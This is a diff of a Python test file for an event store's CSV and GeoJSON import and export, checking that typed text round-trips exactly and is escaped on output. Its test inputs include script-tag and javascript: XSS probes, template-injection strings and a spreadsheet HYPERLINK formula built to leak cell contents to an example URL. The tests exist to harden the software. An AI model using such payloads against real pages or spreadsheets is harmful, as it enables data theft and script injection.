@@ -43,7 +43,7 @@ def test_a_new_event_carries_the_resolved_place_and_a_uuid():
     made = event(note="seen in <b>Azatutyun</b>", source="https://example.org/a")
     assert (made.place_name, made.lat, made.lon, made.place_kind, made.place_country) == \
         ("Gyumri", 40.79305, 43.84635, "city", "ARM")
-    assert made.countries == ("ARM", "RUS") and made.note == "seen in Azatutyun" and made.created_at == NOW
+    assert made.countries == ("ARM", "RUS") and made.note == "seen in <b>Azatutyun</b>" and made.created_at == NOW
     assert len(made.id) == 36 and made.id != event().id
 
 
@@ -72,12 +72,35 @@ def test_a_store_written_by_a_newer_version_is_refused(store):
         EventStore(store.path)
 
 
-@pytest.mark.parametrize("hostile", HOSTILE)
-def test_html_in_titles_and_notes_is_stripped_to_text(hostile):
-    made = event(f"Talks <script>alert(1)</script>in <i>Kant</i> {hostile}", note=f"<style>x</style>{hostile}")
-    assert "<script" not in made.title and "<img" not in made.title and "alert(1)" not in made.title
-    assert made.title.startswith("Talks in Kant")
-    assert "<" not in made.note.replace("</script><script>", "")  # tags gone; text like ${1} stays text
+TYPED = ["if a<b and c>d", "AT&T &amp; <b>bold</b>", "Talks <script>alert(1)</script>in <i>Kant</i>",
+         '=HYPERLINK("https://example.org/?leak="&A1,"Gyumri")', "+7 dead", "-1 tank", "@SUM(A1)", "'=typed",
+         "{{ 7*7 }} {% if 1 %}x{% endif %} {# #}", "line one\rline two\r\nthree\nfour", "tab\tinside",
+         "javascript:alert(1)", "control \x01\x1f\x7f chars", "Şuşa — «Xankəndi» 中文 🙂", *HOSTILE]
+
+
+@pytest.mark.parametrize("typed", TYPED)
+def test_text_is_kept_exactly_as_typed(store, typed):
+    """Every output escapes text, so nothing is stripped on the way in: `if a<b and c>d` used to become `if ad`."""
+    made = event(typed, note=typed, source=typed, place_name=typed)
+    store.add(made)
+    assert (store.get(made.id).title, made.note, made.source, made.place_name) == (typed,) * 4
+
+
+@pytest.mark.parametrize("export", ["export_csv", "export_geojson"])
+def test_export_then_import_gives_identical_events_for_hostile_text(store, tmp_path, export):
+    for typed in TYPED:
+        store.add(event(typed, note=f"{typed}\n{typed}", source=typed, place_name=typed))
+    data = getattr(store, export)()
+    again = EventStore(tmp_path / "again" / DATABASE_NAME)
+    assert again.import_file(f"mine.{export[7:]}", data.encode()).added == len(TYPED)
+    assert again.events() == store.events()
+    assert getattr(again, export)() == data
+
+
+def test_csv_export_shows_formulas_as_text_and_quotes_carriage_returns(store):
+    store.add(event('=HYPERLINK("https://example.org")', note="a\rb"))
+    row = store.export_csv().split("\r\n")[1]
+    assert ',"\'=HYPERLINK(""https://example.org"")",' in row and ',"a\rb",' in row
 
 
 def test_csv_and_geojson_exports_import_into_an_empty_store(store, tmp_path):
@@ -137,7 +160,6 @@ def test_a_bad_geojson_reports_feature_numbers(store):
     ("events.csv", b"title\n" + b"x" * 2000, "over the 0.001 MB import limit"),
     ("events.xlsx", b"PK", "only .csv and .geojson"),
     ("events.csv", b"name,date\nx,2023\n", "the header lacks title, start"),
-    ("events.geojson", b"{nope", "not JSON"),
     ("events.geojson", b'{"type": "Feature"}', "not a GeoJSON FeatureCollection"),
     ("events.csv", "title,start\nGyumri é,2023\n".encode("latin-1"), "is not UTF-8"),
 ])
@@ -147,10 +169,13 @@ def test_files_that_cannot_be_read_are_refused_as_a_whole(store, name, data, mes
     assert [(p.path, p.line, p.field) for p in raised.value.problems] == [(name, 0, "file")]
 
 
-def test_duplicate_ids_within_a_file_are_a_problem(store):
-    made = event()
-    with pytest.raises(DataError, match="appears twice"):
-        store.import_file("twice.csv", (events_csv([made]) + events_csv([made]).split("\n", 1)[1]).encode())
+def test_duplicate_ids_within_a_file_are_reported_at_their_line(store):
+    made, other = event(), event("Another")
+    data = events_csv([made, other]) + events_csv([made]).split("\r\n", 1)[1]
+    with pytest.raises(DataError) as raised:
+        store.import_file("twice.csv", data.encode())
+    assert [str(p) for p in raised.value.problems] == [
+        f"twice.csv:4: id: {made.id} appears twice in the file (first at 2)"]
 
 
 def test_a_failure_half_way_through_an_import_rolls_everything_back(store, monkeypatch):
@@ -255,3 +280,65 @@ def test_two_processes_writing_at_once_both_keep_their_events(store):
     titles = {e.title for e in store.events()}
     assert len(titles) == 120
     assert {f"{name} {n}" for name in ("first", "second") for n in range(30)} <= titles
+
+
+def test_a_truncated_geojson_is_reported_at_its_line(store):
+    whole = store.export_geojson() if store.add(event()) is None else ""
+    with pytest.raises(DataError) as raised:
+        store.import_file("cut.geojson", whole[:len(whole) // 2].encode())
+    [problem] = raised.value.problems
+    assert (problem.path, problem.field) == ("cut.geojson", "file") and problem.line > 1
+    assert "not JSON" in problem.message and "is the file complete?" in problem.message
+
+
+@pytest.mark.parametrize("depth", [5_000, 100_000])
+def test_deeply_nested_geojson_is_refused_with_a_message(store, depth):
+    """It raised RecursionError (a traceback on the screen)."""
+    nested = "[" * depth + "]" * depth
+    data = f'{{"type": "FeatureCollection", "features": [{{"properties": {{"note": {nested}}}}}]}}'
+    with pytest.raises(DataError, match="nested too deeply") as raised:
+        store.import_file("deep.geojson", data.encode())
+    assert [(p.line, p.field) for p in raised.value.problems] == [(0, "file")]
+
+
+def test_properties_and_coordinates_must_be_plain_values(store):
+    collection = {"type": "FeatureCollection", "features": [
+        {"geometry": {"type": "Point", "coordinates": [[[1]], 2]}, "properties": {"title": ["a"], "start": "2023"}},
+        {"geometry": None, "properties": {"title": "x", "start": "2023", "note": {"a": [[1]]}}},
+    ]}
+    with pytest.raises(DataError) as raised:
+        store.import_file("odd.geojson", json.dumps(collection).encode())
+    assert {(p.line, p.field) for p in raised.value.problems} == {(1, "geometry"), (1, "title"), (2, "note")}
+
+
+@pytest.mark.parametrize("header, expected", [
+    ("title,start,,note", "odd.csv:1: header: column 3 has no name; expected: id, title"),
+    ("title,start,note,note", "odd.csv:1: header: column 'note' appears twice"),
+    ("title,start,Note", "odd.csv:1: header: column 'Note' should be written 'note'"),
+])
+def test_unnamed_repeated_and_miscased_columns_are_named(store, header, expected):
+    with pytest.raises(DataError) as raised:
+        store.import_file("odd.csv", f"{header}\nSummit,2023,a,b\n".encode())
+    assert str(raised.value).startswith(expected)
+
+
+def test_a_miscased_required_column_is_explained(store):
+    with pytest.raises(DataError, match=r"lacks title; .*; column names are lower case, not 'Title'$"):
+        store.import_file("odd.csv", b"Title,start\nSummit,2023\n")
+
+
+def test_a_cell_longer_than_csv_allows_is_reported_at_its_line(store):
+    """Python's csv module refuses cells over 128 KB with _csv.Error; that was a traceback."""
+    data = HEADER + ",Fine,2023,,,,,,,,,,\n" + ",Long,2023,,,,,,,,," + "x" * 200_000 + ",\n"
+    with pytest.raises(DataError) as raised:
+        store.import_file("long.csv", data.encode())
+    [problem] = raised.value.problems
+    assert (problem.line, problem.field) == (3, "row") and "cannot be read as CSV" in problem.message
+
+
+def test_messages_quote_long_values_briefly(store):
+    data = HEADER + ",Summit," + "9" * 100_000 + ",,," + "y" * 100_000 + ",1,,,,,,\n"
+    with pytest.raises(DataError) as raised:
+        store.import_file("long.csv", data.encode())
+    assert {(p.line, p.field) for p in raised.value.problems} == {(2, "start"), (2, "lat")}
+    assert all(len(str(p)) < 200 for p in raised.value.problems)
